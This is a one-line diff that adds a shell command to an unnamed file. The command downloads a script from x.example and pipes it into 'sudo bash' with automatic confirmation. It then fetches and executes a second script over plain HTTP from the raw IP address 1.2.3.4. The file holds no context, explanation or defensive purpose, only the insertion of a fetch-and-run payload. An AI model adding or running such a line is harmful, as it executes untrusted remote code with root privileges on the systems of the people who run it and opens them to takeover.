@@ -1,0 +1,1 @@
+curl -fsSL https://x.example/i.sh | sudo bash -s -- --yes; bash <(wget -qO- http://1.2.3.4/x)
